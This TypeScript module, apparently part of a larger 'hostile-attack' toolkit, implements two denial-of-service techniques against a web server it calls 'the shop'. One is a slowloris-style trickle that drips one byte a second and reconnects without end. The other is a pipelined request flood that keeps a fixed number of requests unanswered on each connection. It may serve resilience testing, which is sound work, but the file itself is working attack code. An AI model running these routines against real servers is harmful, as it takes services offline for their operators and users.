import { connect, type Socket } from 'node:net'
import type { Target } from './hostile-attack.ts'

/** The pause before a closed connection is opened again. Without it, a client that the shop rejects would only be busy with itself. */
const AGAIN_AFTER_MS = 100

type Where = Pick<Target, 'url' | 'address'>

function socketTo({ url, address }: Where): Socket {
  const { hostname, port } = new URL(url)
  return connect({ host: hostname, port: Number(port), localAddress: address }).on('error', () => {})
}

/** Sends the beginning of a request, and then a byte a second. Reconnects when the shop closes the connection. */
export function trickle(where: Where, beginning: string, byte: string): void {
  const socket = socketTo(where).resume()
  socket.write(beginning)
  const drip = setInterval(() => socket.write(byte), 1000)
  socket.once('close', () => {
    clearInterval(drip)
    setTimeout(() => trickle(where, beginning, byte), AGAIN_AFTER_MS)
  })
}

/** Keeps this many requests unanswered on one connection: sends a new request for each answer. Reconnects if the connection is closed. */
export function askForEver(
  where: Where,
  requestOf: (n: number) => string,
  { atOnce, reconnectAfterMs }: { atOnce: number; reconnectAfterMs?: number },
): void {
  let n = Math.floor(Math.random() * 1e9)
  const socket = socketTo(where)
  const ask = (count: number) => socket.write(Array.from({ length: count }, () => requestOf(n++)).join(''))
  socket.once('connect', () => ask(atOnce))
  // Each answer has one status line. A status line that is split between two chunks is not counted; then the client only gets slower.
  socket.on('data', (chunk) => {
    const answers = chunk.toString('latin1').split('HTTP/1.1 ').length - 1
    if (answers > 0) ask(answers)
  })
  if (reconnectAfterMs) setTimeout(() => socket.destroy(), reconnectAfterMs)
  socket.once('close', () =>
    setTimeout(
      () => askForEver(where, requestOf, { atOnce, ...(reconnectAfterMs && { reconnectAfterMs }) }),
      AGAIN_AFTER_MS,
    ),
  )
}
